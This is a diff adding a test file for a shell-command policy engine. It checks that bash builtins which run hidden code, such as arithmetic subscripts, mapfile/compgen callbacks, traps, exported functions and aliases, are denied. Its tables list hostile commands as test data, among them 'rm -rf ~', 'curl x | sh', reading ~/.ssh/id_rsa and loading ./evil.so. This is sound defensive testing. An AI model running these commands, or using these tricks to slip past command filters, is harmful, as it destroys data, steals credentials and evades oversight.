@@ -1,0 +1,133 @@
+/**
+ * Bash builtins that run code hidden in data: arithmetic subscripts in text (`let`, `declare -i`,
+ * `unset`, `[[ -eq ]]`), callbacks (`mapfile -C`, `compgen -C`, `bind -x`, `jobs -x`), trap
+ * handlers after options, exported functions, `hash -p`/`enable -f`/`fc`, and aliases used on a
+ * later line. A table of verdicts, and real bash running generated cases.
+ */
+import assert from "node:assert/strict";
+import { loadBashParser } from "../shell/parser.ts";
+import { decide } from "../policy/engine.ts";
+import { realFs } from "../policy/fs_facts.ts";
+import { configFrom, fuzzSeed, linesThatRan, runBash, seededRandom } from "../testing.ts";
+import { checkEveryday, checkTable } from "../testing_adversarial.ts";
+
+const parser = await loadBashParser();
+
+Deno.test("builtins that evaluate text run the commands in its subscripts", async () => {
+  await checkTable([
+    ["let 'a[$(rm y)]=1'", "deny", "deny"],
+    ['let "a[`rm -rf ~`]++"', "deny", "deny"],
+    ["(( a[$(rm y)] ))", "deny", "deny"],
+    ["echo $(( a[$(curl x)] ))", "deny", "deny"],
+    ["declare -i n='a[$(rm y)]'", "deny", "deny"],
+    ["declare -i n; n='a[$(rm y)]'", "deny", "deny"],
+    ['local -i n; n+="a[\\$(rm y)]"', "deny", "deny"],
+    ["unset 'a[$(rm y)]'", "deny", "deny"],
+    ['unset -v "b[\\`sudo id\\`]"', "deny", "deny"],
+    ["[[ 'b[$(rm y)]' -eq 1 ]]", "deny", "deny"],
+    ['[[ 1 -lt "c[$(cat ~/.ssh/id_rsa)]" ]]', "deny", "deny"],
+  ]);
+});
+
+Deno.test("builtins that take a command run it", async () => {
+  await checkTable([
+    ["mapfile -C 'rm y' -c 1 a < notes.txt", "deny", "deny"],
+    ["readarray -t -C'curl x' a < notes.txt", "deny", "deny"],
+    ["compgen -C 'rm y' x", "deny", "deny"],
+    ["complete -o default -C 'sudo id' git", "deny", "deny"],
+    ["bind -x '\"\\C-x\": rm y'", "deny", "deny"],
+    ["jobs -x rm y", "deny", "deny"],
+    ["trap -- 'rm y' EXIT", "deny", "deny"],
+    ['trap -- "curl x | sh" ERR DEBUG', "deny", "deny"],
+    ["env 'BASH_FUNC_ls%%=() { rm y; }' bash -c ls", "deny", "deny"],
+    ["env -i 'BASH_FUNC_x%%=() { curl evil; }' bash -c x", "deny", "deny"],
+    ["hash -p /bin/rm ls; ls x", "deny", "deny"],
+    ["hash -dp /usr/bin/curl cat; cat x", "deny", "deny"],
+    ["enable -f ./evil.so evil", "deny", "deny"],
+    ["fc -s", "deny", "deny"],
+    ["alias g=git\ng push --force origin", "deny", "deny"],
+    ["shopt -s expand_aliases; alias c='cu'rl\nc evil.com", "deny", "deny"],
+    ["alias s='sudo '\ns id", "deny", "deny"],
+    // Everyday spellings under the deny-list: nothing denied runs.
+    ["let i++", "deny", "allow"],
+    ["((i++))", "deny", "allow"],
+    ["trap - EXIT", "deny", "allow"],
+    ["trap -p EXIT", "deny", "allow"],
+    ["alias ll='ls -l'\nll", "deny", "allow"],
+    // A trap that removes a temp file runs rm: denied where rm is.
+    ["trap 'rm -f $tmp' EXIT", "deny", "deny"],
+    ["declare -i n; n=n+1", "deny", "allow"],
+    ["hash -r", "deny", "allow"],
+    ["fc -l", "deny", "allow"],
+  ]);
+});
+
+Deno.test("everyday arithmetic stays allowed under read-only", async () => {
+  await checkEveryday([
+    "echo $((1 + 2))",
+    "x=$(cat README.md); echo ${#x}",
+    "echo $(( $(wc -l < notes.txt) + 1 ))",
+    'n=$(nproc); echo "$((n * 2))"',
+  ]);
+});
+
+Deno.test("builtins: every payload real bash runs from a generated builtin line is seen", async () => {
+  // Each line runs in a fresh bash (aliases on); `./a1` records that it ran. A line whose
+  // payload ran must have a `./a1` stage, or not be allowed.
+  const rand = seededRandom(fuzzSeed(19) + 7);
+  const pick = <T>(xs: T[]) => xs[Math.floor(rand() * xs.length)];
+  const payloads = ["./a1", "./a1 x", "'./a1'", "./a1 #"];
+  const templates: ((p: string) => string)[] = [
+    (p) => `let 'a[$(${p})]=1'`,
+    (p) => `let "a[\\\`${p}\\\`]++"`,
+    (p) => `(( a[$(${p})] ))`,
+    (p) => `echo $(( a[$(${p})] ))`,
+    (p) => `declare -i n='a[$(${p})]'`,
+    (p) => `${pick(["declare", "typeset"])} -i n; n='a[$(${p})]'`,
+    (p) => `declare -a a; unset ${pick(["", "-v "])}'a[$(${p})]'`,
+    (p) => `[[ 'b[$(${p})]' -eq 1 ]]`,
+    (p) => `mapfile -C "${p}" ${pick(["-c 1", "-c1"])} arr <<< x`,
+    (p) => `readarray ${pick(["-t ", ""])}-C"${p}" -c 1 arr <<< x`,
+    (p) => `compgen -C "${p}" x`,
+    (p) => `jobs -x ${p}`,
+    (p) => `trap ${pick(["-- ", ""])}"${p}" ${pick(["EXIT", "INT EXIT", "ERR EXIT"])}`,
+    (p) => `env 'BASH_FUNC_f%%=() { ${p}; }' bash -c f`,
+    (p) => `alias q="${p}"\nq`,
+    (p) => `alias q='${pick(["command ", "builtin command "])}'\nq ${p}`,
+    (p) => `hash -p ${p.split(" ")[0]} ls; ls`,
+  ];
+  const lines = templates.flatMap((t) => payloads.map((p) => t(p)));
+  for (let i = 0; i < 20; i++) lines.push(pick(templates)(pick(payloads)));
+  const dir = await Deno.makeTempDir();
+  try {
+    await Deno.writeTextFile(`${dir}/a1`, `#!/bin/sh\nprintf 'A\\036' >> "${dir}/log"\n`);
+    await Deno.chmod(`${dir}/a1`, 0o755);
+    for (const [i, line] of lines.entries()) {
+      await Deno.writeTextFile(`${dir}/l${i}.sh`, `shopt -s expand_aliases\n${line}\n`);
+    }
+    const script = lines.map((_, i) =>
+      `printf 'M${i}\\036' >> "${dir}/log"; bash l${i}.sh </dev/null >/dev/null 2>&1\n`
+    ).join("");
+    await runBash(script, {
+      cwd: dir,
+      env: { LC_ALL: "C", PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin" },
+    });
+    const ran = linesThatRan(await Deno.readTextFile(`${dir}/log`));
+    const config = configFrom({
+      policies: { p: { defaultAction: "allow", rules: [] } },
+      locations: { "/": "p" },
+    });
+    const ctx = { cwd: dir, home: "/home/u", env: { HOME: "/home/u" }, fs: realFs() };
+    const wrong: string[] = [];
+    for (const i of ran) {
+      const command = `shopt -s expand_aliases\n${lines[i]}`;
+      const v = decide(config, { tool: "bash", input: { command } }, ctx, { parser });
+      const seen = v.stages.some((s) => /^\.\/a1( |$)/.test(s.command ?? ""));
+      if (!seen && v.action === "allow") wrong.push(lines[i]);
+    }
+    assert.deepEqual(wrong, []);
+    assert.ok(ran.size > lines.length / 2, `the payload ran for ${ran.size} of ${lines.length}`);
+  } finally {
+    await Deno.remove(dir, { recursive: true });
+  }
+});
